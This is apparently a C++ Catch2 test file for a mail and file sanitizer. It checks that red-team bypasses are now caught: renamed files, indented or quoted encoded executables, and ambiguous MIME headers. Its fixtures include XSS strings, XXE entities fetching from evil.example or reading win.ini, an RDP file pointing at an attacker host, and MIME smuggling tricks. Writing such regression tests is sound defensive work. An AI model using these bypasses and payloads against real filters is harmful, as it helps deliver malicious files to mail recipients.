// Issue 10, the red team's return: new variants of each fail-open class, built here, run through
// the whole engine with the shipped rules. Each TEST_CASE holds the variants that got through
// before the fix next to the ones that were already handled: together they are the proof that
// the class is closed, not one sample (sanitizers/README.md, "Closed for issue 10 ...").
#include <catch2/catch.hpp>

#include "mugai/mime/mime.h"
#include "mugai/pipeline/pipeline.h"
#include "support/raw_pdf.h"
#include "support/engine_fixture.h"
#include "support/mail_builder.h"

using namespace mugai;

namespace {

const Engine& engine() { return test::shippedEngine(); }

ProcessResult run(const std::string& raw) {
  return engine().processMessage(raw, Envelope{"a@example.com", {"b@city.example.lg.jp"}}, "R10");
}

std::string header() {
  return "From: a@example.com\r\nTo: b@city.example.lg.jp\r\nSubject: t\r\nMIME-Version: 1.0\r\n";
}

std::string plainMail(const std::string& body) {
  return header() + "Content-Type: text/plain; charset=us-ascii\r\n\r\n" + body;
}

/// A one-page PDF whose page draws a string that is HTML to a browser.
std::string pdfWithMarkup() {
  std::string content = "BT /F1 12 Tf 10 10 Td (<script>alert(document.domain)</script>) Tj ET";
  std::vector<std::string> objs = {
      "<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
      "<< /Length " + std::to_string(content.size()) + " >>\nstream\n" + content + "\nendstream"};
  return mugai::test::pdfFromObjects(objs);
}

const ActionRecord* actionWith(const Report& r, const std::string& reason) {
  for (const auto& a : r.actions) {
    if (a.reason == reason) return &a;
  }
  return nullptr;
}

std::string extensionOf(const std::string& name) {
  std::size_t dot = name.rfind('.');
  return dot == std::string::npos ? std::string() : name.substr(dot + 1);
}

}  // namespace

TEST_CASE("red team return, class 1: a delivered file's name opens it as the type it was judged as",
          "[redteam10][text_route]") {
  // A rebuilt PDF keeps its page strings: under .html/.svg a browser runs the <script> in it,
  // under .rdp/.jnlp another reader parses its lines. It gets ".pdf" appended (new variants).
  const std::string pdf = pdfWithMarkup();
  for (const char* name : {"invoice.html", "invoice.htm", "invoice.xhtml", "invoice.svg", "invoice.mht",
                           "invoice.rdp", "invoice.jnlp", "invoice.xml", "invoice"}) {
    INFO(name);
    ProcessResult r = engine().processFile(pdf, name, "N1");
    REQUIRE_FALSE(r.blocked());
    CHECK(r.output_filename == std::string(name) + ".pdf");
  }
  ProcessResult kept = engine().processFile(pdf, "invoice.pdf", "N2");
  CHECK(kept.output_filename == "invoice.pdf");
  // RTF: opens as RTF under .rtf and .doc (Word), not as text (was "memo.rtf.txt" before).
  const std::string rtf = "{\\rtf1\\ansi <script>alert(1)</script> hello}";
  for (auto [name, expect] : {std::pair<const char*, const char*>{"memo.rtf", "memo.rtf"},
                              {"memo.doc", "memo.doc"},
                              {"memo.html", "memo.html.rtf"},
                              {"memo.hta.txt", "memo.hta.txt.rtf"}}) {
    INFO(name);
    ProcessResult r = engine().processFile(rtf, name, "N3");
    REQUIRE_FALSE(r.blocked());
    CHECK(r.output_filename == expect);
  }
  // .nfo opens in System Information (msinfo32, an XML reader that resolved external entities):
  // no longer on the text list, and a DTD anywhere in the first KB routes the text to the HTML
  // rules (converted to text). Both got through before.
  for (const char* xxe : {"<!DOCTYPE x [<!ENTITY % x SYSTEM \"http://evil.example/x.dtd\"> %x;]><x/>\n",
                          "notes\n  <!ENTITY x SYSTEM \"file:///c:/windows/win.ini\">\n"}) {
    INFO(xxe);
    ProcessResult r = engine().processFile(xxe, "release.nfo", "N5");
    REQUIRE_FALSE(r.blocked());
    CHECK(extensionOf(r.output_filename) == "txt");
    CHECK(r.output.find("<!ENTITY") == std::string::npos);
  }
  ProcessResult nfo = engine().processFile("RELEASE NOTES\r\nversion 2\r\n", "readme.nfo", "N6");
  CHECK(nfo.output_filename == "readme.nfo.txt");
  // Markdown viewers render HTML wherever it is: markup past the first KB reached one as .md.
  for (const char* name : {"notes.md", "notes.markdown"}) {
    ProcessResult md = engine().processFile("# Notes\n" + std::string(1200, 'x') + "\n<img src=x onerror=alert(1)>\n",
                                            name, "N7");
    REQUIRE_FALSE(md.blocked());
    CHECK(md.output_filename == std::string(name) + ".txt");
  }
  // Already handled before (the class's table): kept text under other extensions gets .txt, a
  // ZIP named .html is repacked as .zip, trailing dots and spaces do not hide the extension.
  struct Case {
    std::string name, data, expect_ext;
  };
  std::vector<Case> passed = {
      {"a.RDP", "full address:s:evil.example\r\n", "txt"},
      {"b.rdp.", "full address:s:evil.example\r\n", "txt"},
      {"c.desktop", "[Desktop Entry]\nExec=sh\n", "txt"},
      {"d.themepack", "[Theme]\r\nDisplayName=x\r\n", "txt"},
      {"e.psd1", "Start-Process calc\r\n", "txt"},
      {"f.IQY", "WEB\n1\nhttp://evil/x\n", "txt"},
  };
  for (const auto& c : passed) {
    INFO(c.name);
    ProcessResult r = engine().processFile(c.data, c.name, "N4");
    REQUIRE_FALSE(r.blocked());
    CHECK(extensionOf(r.output_filename) == c.expect_ext);
  }
  // In a mail, the attachment arrives under the new name too.
  std::string mail = test::buildMail("pdf", "see attached", {{"application/pdf", "page.html", pdf}});
  ProcessResult m = run(mail);
  CHECK(m.output.find("page.html.pdf") != std::string::npos);
}

TEST_CASE("red team return, class 5: encoded files indented, quoted or in other armor", "[redteam10][body_blocks]") {
  const std::string pe = std::string("MZ") + std::string(200, '\x01');
  // New variants: the block indented by spaces or a TAB, or quoted in a reply ("> ").
  for (const std::string& prefix : {std::string("  "), std::string("\t"), std::string("> "), std::string(">> ")}) {
    for (const std::string& eol : {std::string("\r\n"), std::string("\n")}) {
      INFO("prefix '" << prefix << "'");
      ProcessResult r = run(plainMail("Hello\r\n" + mugai::test::uuencode("setup.exe", pe, prefix, eol) + "Bye\r\n"));
      CHECK(actionWith(r.report, "extension.denied"));
      CHECK(r.output.find("begin 644") == std::string::npos);
    }
  }
  // Already handled: the block at the line start, CRLF or LF.
  for (const std::string& eol : {std::string("\r\n"), std::string("\n")}) {
    ProcessResult r = run(plainMail("Hello\r\n" + mugai::test::uuencode("setup.exe", pe, "", eol) + "Bye\r\n"));
    CHECK(actionWith(r.report, "extension.denied"));
  }
  // PGP data in other armor, or indented, is as unreadable as a PGP message (new variants).
  for (const std::string& pgp :
       {std::string("  -----BEGIN PGP MESSAGE-----\r\n\r\n  hQEMA0xyz\r\n  -----END PGP MESSAGE-----\r\n"),
        std::string("-----BEGIN PGP ARMORED FILE-----\r\n\r\nhQEMA0xyz\r\n-----END PGP ARMORED FILE-----\r\n"),
        std::string("-----BEGIN PGP MESSAGE, PART 1/2-----\r\n\r\nhQEMA0xyz\r\n-----END PGP MESSAGE, PART 1/2-----\r\n"),
        std::string("> -----BEGIN PGP MESSAGE-----\r\n>\r\n> hQEMA0xyz\r\n> -----END PGP MESSAGE-----\r\n")}) {
    INFO(pgp.substr(0, 40));
    ProcessResult r = run(plainMail("Secret:\r\n" + pgp));
    CHECK(r.report.reason == Reason::ContentEncrypted);
    CHECK(r.blocked());
  }
  // Clear-signed text, a signature or a public key carry nothing hidden and stay.
  for (const std::string& shown :
       {std::string("-----BEGIN PGP SIGNED MESSAGE-----\r\nHash: SHA256\r\n\r\nhello\r\n"),
        std::string("-----BEGIN PGP PUBLIC KEY BLOCK-----\r\n\r\nmQENBF\r\n-----END PGP PUBLIC KEY BLOCK-----\r\n")}) {
    CHECK_FALSE(run(plainMail(shown)).blocked());
  }
}

TEST_CASE("red team return, class 8: MIME another reader splits or decodes differently", "[redteam10][ambiguity]") {
  const std::string pe = mime::encodeBase64(std::string("MZ") + std::string(300, '\x02'));
  const std::string part = "Content-Type: application/octet-stream; name=a.exe\r\nContent-Transfer-Encoding: base64\r\n\r\n" + pe;
  // New variants: a transfer encoding spelled another way (another reader may decode it).
  std::vector<std::string> fixed = {
      header() + "Content-Type: text/plain\r\nContent-Transfer-Encoding: \"base64\"\r\n\r\n" + pe + "\r\n",
      header() + "Content-Type: text/plain\r\nContent-Transfer-Encoding: base-64\r\n\r\n" + pe + "\r\n",
      header() + "Content-Type: text/plain\r\nContent-Transfer-Encoding: Quoted_Printable\r\n\r\n=4D=5A\r\n",
      // A multipart declared base64 or quoted-printable: decoded by some readers, not by us.
      header() + "Content-Type: multipart/mixed; boundary=Z\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
          mime::encodeBase64("--Z\r\n" + part + "\r\n--Z--\r\n") + "\r\n",
      header() + "Content-Type: multipart/mixed; boundary=Z\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n"
                 "=2D-Z\r\n" + part + "\r\n=2D-Z--\r\n",
  };
  for (const auto& m : fixed) {
    INFO(m.substr(0, 160));
    ProcessResult r = run(m);
    CHECK(r.report.reason == Reason::ParseAmbiguous);
    CHECK(r.blocked());
  }
  // Already handled: duplicate Content-Type (top and nested), duplicate CTE nested, duplicate
  // file names, duplicate boundary parameter, a NUL in a header name: refused as ambiguous.
  std::vector<std::string> refused = {
      header() + "Content-Type: text/plain\r\nContent-Type: application/x-msdownload; name=x.exe\r\n"
                 "Content-Transfer-Encoding: base64\r\n\r\n" + pe + "\r\n",
      header() + "Content-Type: multipart/mixed; boundary=Z\r\n\r\n--Z\r\nContent-Type: text/plain\r\n"
                 "Content-Transfer-Encoding: 7bit\r\n" + part.substr(part.find("Content-Transfer")) + "\r\n--Z--\r\n",
      header() + "Content-Type: multipart/mixed; boundary=Z\r\n\r\n--Z\r\nContent-Type: application/octet-stream\r\n"
                 "Content-Disposition: attachment; filename=\"a.txt\"; filename=\"b.exe\"\r\n"
                 "Content-Transfer-Encoding: base64\r\n\r\n" + pe + "\r\n--Z--\r\n",
      header() + "Content-Type: multipart/mixed; boundary=AA; boundary=BB\r\n\r\n--AA\r\nContent-Type: text/plain\r\n\r\n"
                 "hi\r\n--BB\r\n" + part + "\r\n--BB--\r\n--AA--\r\n",
      header() + std::string("X-A\0: b\r\n", 9) + "Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n" + pe + "\r\n",
  };
  for (const auto& m : refused) {
    INFO(m.substr(0, 160));
    CHECK(run(m).report.reason == Reason::ParseAmbiguous);
  }
  // Read as RFC 2231 readers read it (new variants: the boundary was taken raw, "''AB", and the
  // parts were left unsplit): the executable is found and never delivered.
  for (const std::string& declared : {std::string("boundary*=''AB"), std::string("boundary*=us-ascii'en'AB"),
                                      std::string("boundary*0*=''A%42"), std::string("boundary*=''%41B")}) {
    INFO(declared);
    ProcessResult r = run(header() + "Content-Type: multipart/mixed; " + declared + "\r\n\r\n--AB\r\n" + part +
                          "\r\n--AB--\r\n");
    CHECK(actionWith(r.report, "extension.denied"));
    CHECK(r.output.find(pe.substr(0, 40)) == std::string::npos);
  }
  // Already handled by reading them as every reader does: a CTE with a comment, in mixed case,
  // folded; RFC 2231 boundary sections; a nested boundary that starts like the outer one. The
  // executable is found and never delivered.
  std::vector<std::string> read_alike = {
      header() + "Content-Type: application/octet-stream; name=x.exe\r\nContent-Transfer-Encoding: base64 (yes)\r\n\r\n" + pe + "\r\n",
      header() + "Content-Type: application/octet-stream; name=x.exe\r\nContent-Transfer-Encoding: BaSe64\r\n\r\n" + pe + "\r\n",
      header() + "Content-Type: application/octet-stream; name=x.exe\r\nContent-Transfer-Encoding:\r\n base64\r\n\r\n" + pe + "\r\n",
      header() + "Content-Type: multipart/mixed; boundary*0=A; boundary*1=B\r\n\r\n--AB\r\n" + part + "\r\n--AB--\r\n",
      header() + "Content-Type: multipart/mixed; boundary=Z\r\n\r\n--Z\r\nContent-Type: multipart/mixed; boundary=ZZ\r\n\r\n"
                 "--ZZ\r\n" + part + "\r\n--ZZ--\r\n--Z--\r\n",
  };
  for (const auto& m : read_alike) {
    INFO(m.substr(0, 160));
    ProcessResult r = run(m);
    CHECK(r.verdict >= Verdict::PartRemoved);
    CHECK(r.output.find(pe.substr(0, 40)) == std::string::npos);
  }
}
